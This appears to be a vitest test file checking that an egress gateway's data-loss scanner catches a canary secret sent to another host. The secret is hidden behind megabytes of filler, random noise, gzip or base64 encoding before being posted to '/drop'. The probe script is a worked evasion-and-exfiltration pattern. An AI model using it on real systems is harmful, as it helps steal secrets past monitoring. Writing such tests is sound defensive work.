// What must not leave stands behind much that may: megabytes, and little that unpacks to them. These go to the scanner's thread.
import { expect } from 'vitest';
import { forEachTier, isMachine, outcomes } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

forEachTier('a canary is refused behind megabytes of filler, plain and packed', async (tier) => {
  await using box = new EgressBox(tier, { dlp: true });
  const result = await box.probe(`
canary = os.environ['CANARY'].encode()
filler = b'plain words and nothing else, ' * 40_000
noise = os.urandom(1_200_000)
bodies = dict(
    text=filler + canary, noise=noise + canary, middle=filler + canary + filler, coded=noise + b' ' + base64.b64encode(canary * 2),
    gzip=gzip.compress(filler + canary), gzip64=base64.b64encode(gzip.compress(filler + canary)))
for name, body in bodies.items():
    ask(name, host=OTHER, target='/drop', lines=(), body=body)
ask('declared', host=OTHER, target='/drop', lines=('Content-Encoding: gzip',), body=bodies['gzip'])
ask('too-large', host=OTHER, target='/drop', lines=(), body=noise * 9)
control()
`);
  const refused = ['text', 'noise', 'middle', 'coded', 'gzip', 'gzip64', 'declared'];
  box.expectHeld(result, Object.fromEntries(refused.map((name) => [name, '403 network.dlp'])));
  // An emulated client still sends when the gateway has stopped waiting for it.
  const cut = isMachine(tier);
  expect(outcomes(result)['too-large']).toMatch(
    cut ? /^(?:413 other\.limits\.body|nothing|ECONNRESET|EPIPE|TLS )/ : /^413 other\.limits\.body/,
  );
  expect(box.refusals()).toContainEqual(expect.objectContaining({ rule: 'other.limits.body', status: 413 }));
  const kinds = box.refusals().flatMap((data) => JSON.stringify(data['dlp'] ?? []));
  expect(kinds.filter((text) => text.includes('"canary"'))).toHaveLength(refused.length);
});
